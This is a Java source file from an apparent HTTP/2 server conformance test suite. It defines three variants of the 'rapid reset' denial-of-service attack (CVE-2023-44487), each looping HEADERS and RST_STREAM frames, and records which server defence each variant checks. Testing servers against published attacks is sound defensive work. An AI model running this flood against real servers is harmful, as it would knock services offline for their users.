package dev.gannet.conformance.gauntlet.attack;

import dev.gannet.conformance.gauntlet.wire.Frames;
import dev.gannet.conformance.gauntlet.wire.Messages;
import dev.gannet.conformance.gauntlet.wire.RawConnection;
import dev.gannet.conformance.gauntlet.wire.Requests;
import java.io.IOException;

/** Calls that are cancelled immediately after their start, in a loop (CVE-2023-44487). */
enum RapidReset implements Attack {
  /** Before the request is complete. */
  HEADERS_ALONE("rapid-reset"),
  /** After the complete request, when its handler was started. */
  WHOLE_CALLS("rapid-reset-whole"),
  /**
   * Each one next to a call that fails by itself: a server that credits served calls could count
   * these.
   */
  BESIDE_FAILURES("rapid-reset-beside-failures");

  private final String name;

  RapidReset(String name) {
    this.name = name;
  }

  @Override
  public AttackDescription description() {
    return AttackDescription.cutOff(
            "too many RESET_STREAM",
            name,
            "RFC 9113 §10.5",
            "counts resets, and gives a stream's place free only when its handler is back")
        .published("2023-44487");
  }

  @Override
  public void attack(Front front) throws IOException {
    RawConnection connection = front.connect();
    Requests requests = Requests.to(Requests.UNARY);
    for (int id = 1; front.goesOn(connection); id += 2) {
      connection.send(Frames.headers(id, Frames.END_HEADERS, requests.next()));
      if (this == WHOLE_CALLS) {
        connection.send(Frames.data(id, Frames.END_STREAM, Messages.empty()));
      }
      connection.send(Frames.rstStream(id));
      if (this == BESIDE_FAILURES) {
        id += 2;
        int whole = Frames.END_HEADERS | Frames.END_STREAM;
        connection.send(Frames.headers(id, whole, requests.next())); // without its message
      }
    }
  }
}
